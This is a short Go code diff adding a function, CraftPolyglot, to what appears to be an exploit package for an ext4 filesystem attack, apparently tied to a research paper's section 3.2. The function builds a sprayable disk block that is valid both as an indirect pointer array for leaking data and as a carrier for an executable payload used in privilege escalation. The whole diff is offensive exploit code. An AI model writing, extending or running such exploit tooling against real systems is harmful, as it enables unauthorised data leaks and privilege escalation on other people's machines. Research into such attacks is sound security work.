@@ -23,3 +23,25 @@ func CraftPointerBlock(targets []uint32) ([]byte, error) {
 	}
 	return blk, nil
 }
+
+// CraftPolyglot builds a §3.2 polyglot block: valid as an ext4
+// single-indirect pointer array (the first len(targets) slots) and as an
+// executable payload (marker plus payload in the tail, beyond the
+// pointer slots a file read would dereference). One sprayed block thus
+// serves both the information-leak and the privilege-escalation path.
+func CraftPolyglot(targets []uint32, marker string, payload []byte) ([]byte, error) {
+	if len(targets) > 512 {
+		return nil, errors.New("attack: polyglot pointer area limited to 512 targets")
+	}
+	blk, err := CraftPointerBlock(targets)
+	if err != nil {
+		return nil, err
+	}
+	tail := blk[2048:]
+	if len(marker)+len(payload) > len(tail) {
+		return nil, errors.New("attack: payload too large")
+	}
+	copy(tail, marker)
+	copy(tail[len(marker):], payload)
+	return blk, nil
+}
